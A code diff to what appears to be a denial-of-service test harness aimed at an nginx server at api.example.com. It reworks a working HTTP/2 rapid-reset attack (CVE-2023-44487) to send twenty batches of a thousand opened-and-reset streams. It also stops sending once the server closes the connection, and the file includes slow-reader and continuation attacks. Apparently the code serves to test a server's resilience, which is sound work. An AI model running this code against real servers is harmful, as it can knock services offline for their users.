@@ -6,7 +6,7 @@ import asyncio
 import functools
 import itertools
 import json
-from collections.abc import Awaitable, Callable
+from collections.abc import Awaitable, Callable, Iterable
 from typing import TYPE_CHECKING, Any
 
 from h2.connection import H2Connection
@@ -17,7 +17,7 @@ if TYPE_CHECKING:
 Client = Callable[[Any, int], Awaitable[None]]
 HEAD = "{} HTTP/1.1\r\nHost: api.example.com\r\n"
 SLOW = 1.0  # seconds between two bytes
-STREAMS = 1000  # requests that a client resets on one connection
+PARTS, STREAMS = 20, 1000  # of requests that a client resets on one connection, and in each part
 SEARCH = "GET /api/v1/opportunities?limit=25&include=total&q="
 LARGE = json.dumps({"title": "x" * 2**20})[: 2**20 - 2] + '"}'
 numbers = itertools.count(1)
@@ -66,20 +66,23 @@ async def slow_reader(attack: Attack, number: int) -> None:
 
 
 @functools.cache
-def resets() -> bytes:
-    """Return what opens a connection, and begins and resets as many requests as nginx allows."""
+def resets() -> list[bytes]:
+    """Return what opens a connection and resets requests, and what resets further ones."""
     wire = H2Connection()
     wire.initiate_connection()
     path = [(":scheme", "https"), (":authority", "api.example.com"), (":path", "/api/v1/health")]
-    for stream in range(1, 2 * STREAMS, 2):
-        wire.send_headers(stream, [(":method", "GET"), *path], end_stream=True)
-        wire.reset_stream(stream)
-    return wire.data_to_send()
+    parts = []
+    for number in range(PARTS):
+        for stream in range(2 * STREAMS * number + 1, 2 * STREAMS * (number + 1), 2):
+            wire.send_headers(stream, [(":method", "GET"), *path], end_stream=True)
+            wire.reset_stream(stream)
+        parts.append(wire.data_to_send())
+    return parts
 
 
 async def rapid_reset(attack: Attack, number: int) -> None:
     """Begin and reset requests over HTTP/2 (CVE-2023-44487)."""
-    await _send(attack, number, itertools.repeat(resets(), 1))
+    await _send(attack, number, resets(), patience=1)
 
 
 async def continuation(attack: Attack, number: int) -> None:
@@ -96,8 +99,11 @@ def _frame(kind: int, payload: bytes) -> bytes:
     return len(payload).to_bytes(3, "big") + bytes([kind, 0]) + (1).to_bytes(4, "big") + payload
 
 
-async def _send(attack: Attack, number: int, parts: Any) -> None:
-    """Send parts over HTTP/2 and drop what arrives, until nginx closes the connection."""
+async def _send(attack: Attack, number: int, parts: Iterable[bytes], patience: float = 15) -> None:
+    """Send parts over HTTP/2 and drop what arrives, until nginx closes the connection.
+
+    After the last part, wait at most ``patience`` seconds for that.
+    """
     reader, writer = await attack.connect(number, "h2")
 
     async def drop() -> None:
@@ -106,11 +112,11 @@ async def _send(attack: Attack, number: int, parts: Any) -> None:
 
     dropping = asyncio.create_task(drop())
     try:
-        for part in parts:
+        for part in itertools.takewhile(lambda _: not dropping.done(), parts):
             writer.write(part)
             await writer.drain()
             attack.counts["parts"] += 1
-        await asyncio.wait_for(dropping, 15)
+        await asyncio.wait_for(dropping, patience)
     except TimeoutError:
         attack.counts["kept"] += 1
     finally:
